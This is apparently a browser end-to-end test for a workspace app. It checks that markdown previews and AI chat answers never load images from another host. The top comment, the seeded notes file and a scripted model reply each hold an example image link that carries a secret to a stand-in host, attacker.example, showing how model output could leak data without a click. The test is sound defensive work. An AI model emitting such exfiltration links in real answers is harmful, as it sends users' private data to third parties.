// An image in a markdown preview or a model answer never makes the browser fetch from another
// host: `![x](https://attacker.example/c?d=SECRET)` would carry data out with no click. Chromium's
// own request log is the witness. Workspace images still load, through this server.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readFileSync } from 'node:fs'
import type { Browser } from 'playwright-core'
import { putFile } from '../../src/effects/workspace/store.ts'
import { ask, assistantMessage, launchBrowser, openWorkspace, UUID_MODES, waitForAnswer } from '../support/browser.ts'
import { chatCompletionSse, streamScript } from '../support/scripted-provider.ts'
import { REMOTE_MODEL, startChatFixture, type ChatFixture } from './chat-fixture.ts'

const REMOTE = 'attacker.example'
const PIXEL = readFileSync(new URL('../fixtures/documents/pixel.png', import.meta.url))

let fixture: ChatFixture
let browser: Browser
beforeAll(async () => {
  ;[fixture, browser] = await Promise.all([startChatFixture(), launchBrowser()])
  await putFile(fixture.server.database.db, {
    owner: fixture.alice.user,
    segments: ['pics', 'pixel.png'],
    bytes: new Uint8Array(PIXEL),
    parsed: { ok: false, mime: 'image/png', error: 'no text in an image' },
  })
  await fixture.putText(
    ['pics', 'notes.md'],
    `# Notes\n\n![chart](https://${REMOTE}/c?d=SECRET "Q3")\n\n![local](pixel.png)\n\n![absolute](kb://users/alice/pics/pixel.png)\n`,
  )
})
afterAll(async () => {
  await browser?.close()
  await fixture?.close()
})

describe.each(UUID_MODES.slice(0, 1))('remote images ($name)', (mode) => {
  it('neither a preview nor a model answer requests anything from another host; workspace images load', async () => {
    const session = await openWorkspace(browser, { server: fixture.server, login: 'alice', password: fixture.alice.password, mode, uri: 'kb://users/alice/pics/' })
    const { page } = session
    const requested: string[] = []
    page.on('request', (request) => requested.push(request.url()))
    try {
      await page.locator('#tree .node-link', { hasText: 'notes.md' }).click()
      await page.locator('#content .markdown').waitFor()
      await page.waitForLoadState('networkidle')
      expect(requested.filter((url) => url.includes(REMOTE))).toEqual([])
      const external = page.locator('#content .markdown a.external-image')
      await expect(external.textContent()).resolves.toBe(`External image, not loaded: chart (${REMOTE})`)
      await expect(external.getAttribute('href')).resolves.toBe(`https://${REMOTE}/c?d=SECRET`)
      const images = page.locator('#content .markdown img')
      await expect(images.count()).resolves.toBe(2)
      await expect
        .poll(() => images.evaluateAll((elements) => elements.map((img) => (img as HTMLImageElement).complete && (img as HTMLImageElement).naturalWidth > 0)))
        .toEqual([true, true])

      await page.locator('#chat-model').selectOption(REMOTE_MODEL)
      fixture.provider.enqueue(streamScript(chatCompletionSse([{ text: `Here it is: ![x](https://${REMOTE}/c?d=SECRET2)` }, { finish: 'stop' }, 'done'])))
      await ask(page, 'Show me the chart')
      await waitForAnswer(page)
      await page.waitForLoadState('networkidle')
      await expect(assistantMessage(page).locator('a.external-image').textContent()).resolves.toBe(`External image, not loaded: x (${REMOTE})`)
      await expect(assistantMessage(page).locator('img').count()).resolves.toBe(0)

      expect(requested.filter((url) => url.includes(REMOTE))).toEqual([])
      expect(requested.filter((url) => url.includes('/api/v1/workspace/raw')).length).toBeGreaterThan(0)
      expect(session.problems()).toEqual([])
    } finally {
      await session.close()
    }
  })
})
